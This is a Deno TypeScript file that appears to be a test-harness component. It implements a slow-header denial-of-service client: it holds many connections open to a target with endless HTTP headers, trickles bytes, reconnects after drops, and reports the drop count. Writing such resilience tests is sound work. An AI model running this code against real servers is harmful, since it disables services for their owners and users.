import type { Target } from "./http_connection.ts";

/** What the clients are told on their command line. */
export interface AttackCommand {
  readonly target: Target;
  /** How many of them there are, always: who is sent away comes again. */
  readonly count: number;
  /** Over how long they come for the first time, in milliseconds, so that they do not all come again at once. */
  readonly spreadMs: number;
}

const ENCODER = new TextEncoder();
const HEAD = ENCODER.encode("GET /livez HTTP/1.1\r\nHost: x\r\nX-Long: ");
const BYTE = ENCODER.encode("a");

/** Connections that hold on to a server without ever asking for anything: heads without an end, half of them growing. */
class SlowClients {
  readonly #open = new Set<Deno.TcpConn>();
  #dropped = 0;

  constructor(readonly command: AttackCommand) {}

  /** How many connections the server has ended. */
  get dropped(): number {
    return this.#dropped;
  }

  async start(): Promise<void> {
    const { count, spreadMs } = this.command;
    const start = performance.now();
    for (let index = 0; index < count; index++) {
      const early = start + spreadMs * index / count - performance.now();
      if (early > 1) await new Promise((resolve) => setTimeout(resolve, early));
      await this.#begin(index % 2 === 0);
    }
    setInterval(() => this.#goOn(), 1000);
  }

  async #begin(grows: boolean): Promise<void> {
    const connection = await Deno.connect(this.command.target);
    await connection.write(HEAD);
    if (grows) this.#open.add(connection);
    void this.#untilEnd(connection).then(() => {
      this.#dropped++;
      this.#open.delete(connection);
      connection.close();
      return this.#begin(grows);
    });
  }

  /** A byte a second. */
  #goOn(): void {
    for (const connection of this.#open) connection.write(BYTE).catch(() => {});
  }

  async #untilEnd(connection: Deno.TcpConn): Promise<void> {
    const buffer = new Uint8Array(1024);
    while (await connection.read(buffer).catch(() => null) !== null);
  }
}

// A process of its own, so that its work is not on the account of whoever is measured.
if (import.meta.main) {
  const clients = new SlowClients(JSON.parse(Deno.args[0] ?? "{}"));
  await clients.start();
  await Deno.stdout.write(ENCODER.encode("ready\n"));
  for await (const _line of Deno.stdin.readable) {
    await Deno.stdout.write(ENCODER.encode(`${clients.dropped}\n`));
  }
  Deno.exit();
}
